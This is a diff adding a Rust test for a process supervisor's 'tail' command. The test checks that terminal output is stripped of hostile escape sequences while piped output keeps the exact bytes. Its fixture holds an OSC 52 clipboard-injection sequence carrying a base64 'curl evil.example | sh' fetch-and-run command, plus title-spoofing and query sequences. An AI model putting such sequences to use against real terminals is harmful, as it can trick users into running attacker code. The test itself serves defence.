@@ -6,7 +6,7 @@ use nix::sys::signal::Signal;
 use std::io::Read;
 use std::process::{Command, Stdio};
 use std::time::Duration;
-use tests::{bin, wait_until, Daemon, Scratch};
+use tests::{bin, wait_until, Daemon, PtySession, Scratch};
 
 /// The file and its backups concatenated oldest first.
 fn rotated(path: &std::path::Path, backups: u32) -> String {
@@ -210,4 +210,48 @@ fn syslog_lines_reach_the_syslog_socket() {
     let line = got.iter().find(|m| m.contains("hello-syslog")).unwrap();
     assert!(line.contains(" p["), "tagged with the process name: {line}");
     drop(d);
+}
+
+#[test]
+fn tail_on_a_terminal_removes_clipboard_title_and_query_sequences_and_a_pipe_gets_exact_bytes() {
+    use crate::fg::{assert_sanitized, HOSTILE};
+    let s = Scratch::new();
+    let trigger = s.path("trigger");
+    let script = s.path("hostile.sh");
+    let late = HOSTILE.replace("visible-marker", "late-marker");
+    std::fs::write(
+        &script,
+        format!("{HOSTILE}\nwhile [ ! -e {} ]; do sleep 0.02; done\n{late}\nexec sleep 1000\n", trigger.display()),
+    )
+    .unwrap();
+    let d = Daemon::start_in(
+        s,
+        &format!("programs:\n  evil:\n    command: /bin/sh {}\n    startsecs: 0\n", script.display()),
+    );
+    let raw: &[u8] =
+        b"\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07\x1b]0;pwned-title\x07\x1b[6n\x1b[31mvisible-marker\x1b[0m\r\n";
+    // Into a pipe: the exact bytes, sequences included.
+    let piped = || Command::new(bin("taskmasterctl")).arg("-s").arg(&d.socket).args(["tail", "evil"]).output().unwrap();
+    wait_until("evil's output", SOON, || piped().stdout == raw);
+    let ctl = bin("taskmasterctl");
+    let args = |extra: &[&'static str]| -> Vec<std::ffi::OsString> {
+        let mut v: Vec<std::ffi::OsString> =
+            vec![ctl.clone().into(), "-s".into(), d.socket.clone().into(), "tail".into()];
+        v.extend(extra.iter().map(|a| a.into()));
+        v
+    };
+    let spawn =
+        |a: &[std::ffi::OsString]| PtySession::spawn(&a.iter().map(|a| a.as_os_str()).collect::<Vec<_>>(), 30, 100);
+    // On a terminal: the marker and its colour, nothing else.
+    let mut t = spawn(&args(&["evil"]));
+    assert!(t.wait().success());
+    assert_sanitized(&t.seen);
+    // Following on a terminal: the same for what comes later.
+    let mut f = spawn(&args(&["-f", "evil"]));
+    f.expect("visible-marker\x1b[0m");
+    std::fs::write(&trigger, "").unwrap();
+    f.expect("\x1b[31mlate-marker\x1b[0m");
+    f.send(b"\x04"); // Ctrl-D ends following
+    assert!(f.wait().success());
+    assert_sanitized(&f.seen);
 }
